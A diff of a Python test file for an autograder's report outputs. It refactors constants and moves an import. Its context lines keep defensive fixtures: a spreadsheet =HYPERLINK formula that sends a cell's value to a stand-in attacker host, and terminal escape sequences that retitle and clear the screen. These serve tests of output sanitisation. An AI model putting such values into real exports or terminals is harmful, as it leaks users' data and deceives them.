@@ -21,6 +21,7 @@ from autograder.grading.store import Store
 from autograder.outputs import gradebook, report
 from autograder.results import ItemResult, SubmissionResult
 from tests.conftest import COURSE
+from tests.support.timing import promptly
 
 runner = CliRunner()
 FIRST = COURSE.items[0]
@@ -52,8 +53,8 @@ def class_results() -> list[SubmissionResult]:
 class Page(HTMLParser):
     """Collects what the tests look at, and checks that every element is closed in order."""
 
-    VOID = {"meta", "br", "hr", "img", "input", "link", "col", "source", "wbr", "area", "base", "embed", "param",
-            "track"}
+    VOID = frozenset({"meta", "br", "hr", "img", "input", "link", "col", "source", "wbr", "area", "base", "embed",
+                      "param", "track"})
 
     def __init__(self) -> None:
         super().__init__()
@@ -220,8 +221,9 @@ def test_each_failure_table_is_a_closed_details(page):
     tables = [p for table, p in parsed.table_parents if table == "test-table"]
     assert len(tables) == 2 and all(p[-1] == "details" for p in tables)
     assert [attrs for tag, attrs in parsed.tags if tag == "details"] == [{}, {}]  # no "open"
-    assert summaries(html) == [f"<b>{FIRST.id}</b> — 2 of 3 submitted failed a test; most often <code>test_2</code> (2×)",
-                         f"<b>{OTHER.id}</b> — 2 of 3 submitted failed a test; most often <code>test_1</code> (2×)"]
+    assert summaries(html) == [
+        f"<b>{FIRST.id}</b> — 2 of 3 submitted failed a test; most often <code>test_2</code> (2×)",
+        f"<b>{OTHER.id}</b> — 2 of 3 submitted failed a test; most often <code>test_1</code> (2×)"]
 
 
 def a_class_with_a_missing_file() -> list[SubmissionResult]:
@@ -370,7 +372,9 @@ def test_report_without_results_is_one_line(tmp_path, make):
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'
 ESCAPES = "\x1b]0;pwned\x07\x1b[2Jmallory\x1b[31m"
 MARKUP = "[link=https://evil.example]x[/link]"
-ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"}, "missing": {"landlock": "the kernel has none"}}
+ISOLATION = {"requested": "auto", "level": "partial", "layers": {"seccomp": "on"},
+             "missing": {"landlock": "the kernel has none"}}
+ISOLATION_LINE = "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
 
 
 def chosen_names() -> list[SubmissionResult]:
@@ -415,7 +419,7 @@ def test_the_terminal_shows_names_as_written_and_no_escape_sequence():
     assert "pwned" not in shown and "\x1b]" not in shown and "\x1b[2J" not in shown and "\t" not in shown
     text = render(chosen_names(), [FIRST], width=200, isolation=ISOLATION)
     assert MARKUP in text and FORMULA in text and "mallory" in text
-    assert text.rstrip().splitlines()[-1] == "isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)"
+    assert text.rstrip().splitlines()[-1] == ISOLATION_LINE
 
 
 def test_the_section_table_shows_names_as_written():
@@ -428,14 +432,12 @@ def test_the_page_holds_no_control_character_and_the_isolation_line():
     html = report.render_html(chosen_names(), [FIRST], isolation=ISOLATION)
     assert not [c for c in html if unicodedata.category(c) == "Cc" and c != "\n"]
     assert "pwned" not in html and "mallory" in html
-    assert '<p class="meta" id="isolation">isolation: partial (seccomp; --isolation auto); missing: landlock (the kernel has none)</p>' in html
+    assert f'<p class="meta" id="isolation">{ISOLATION_LINE}</p>' in html
     assert 'id="isolation"' not in report.render_html(chosen_names(), [FIRST])
 
 
 @pytest.mark.parametrize("option", ["--json", "--csv", "--html"])
 def test_report_refuses_a_fifo_output(tmp_path, option):
-    from tests.test_safe import promptly
-
     fill(tmp_path / "g.sqlite", class_results())
     fifo = tmp_path / "out"
     os.mkfifo(fifo)
